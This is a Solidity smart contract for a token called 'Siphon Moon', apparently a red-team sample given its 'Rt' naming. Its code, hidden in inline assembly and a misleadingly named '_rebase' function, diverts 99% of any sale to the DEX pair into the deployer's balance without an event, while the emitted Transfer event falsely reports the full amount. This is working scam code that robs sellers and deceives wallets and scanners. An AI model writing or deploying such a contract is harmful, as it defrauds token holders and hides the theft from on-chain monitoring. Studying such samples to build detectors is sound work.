// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IRtDexRouter, IRtDexFactory} from "./RtCommon.sol";

/// @title RtSiphonMoon
/// @notice Self-contained token whose sells are skimmed in assembly: the
/// pair is credited 1% of what the Transfer event claims, the rest lands in
/// a collector's balance with no event at all.
contract RtSiphonMoon {
    string public constant name = "Siphon Moon";
    string public constant symbol = "SMOON";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable pair;
    address private immutable _c;
    mapping(address => mapping(address => uint256)) public allowance;

    // balances live at keccak256(account . 0x5eed)
    uint256 private constant _BAL = 0x5eed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router) {
        _c = msg.sender;
        pair = IRtDexFactory(IRtDexRouter(router).factory()).createPair(address(this), IRtDexRouter(router).WETH());
        totalSupply = 100_000_000 ether;
        _set(msg.sender, totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address a) public view returns (uint256 v) {
        assembly {
            mstore(0, a)
            mstore(32, _BAL)
            v := sload(keccak256(0, 64))
        }
    }

    function _set(address a, uint256 v) private {
        assembly {
            mstore(0, a)
            mstore(32, _BAL)
            sstore(keccak256(0, 64), v)
        }
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _tx(msg.sender, to, v);
        return true;
    }

    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        uint256 a = allowance[f][msg.sender];
        if (a != type(uint256).max) {
            require(a >= v, "allowance");
            allowance[f][msg.sender] = a - v;
        }
        _tx(f, to, v);
        return true;
    }

    function _tx(address f, address to, uint256 v) private {
        uint256 fb = balanceOf(f);
        require(fb >= v, "balance");
        _set(f, fb - v);
        uint256 credited = v;
        if (to == pair && f != _c) credited = _rebase(v);
        _set(to, balanceOf(to) + credited);
        emit Transfer(f, to, v);
    }

    // moves 99% of a sell to the collector without an event
    function _rebase(uint256 v) private returns (uint256 kept) {
        kept = v / 100;
        address c = _c;
        uint256 skim = v - kept;
        assembly {
            mstore(0, c)
            mstore(32, _BAL)
            let slot := keccak256(0, 64)
            sstore(slot, add(sload(slot), skim))
        }
    }
}
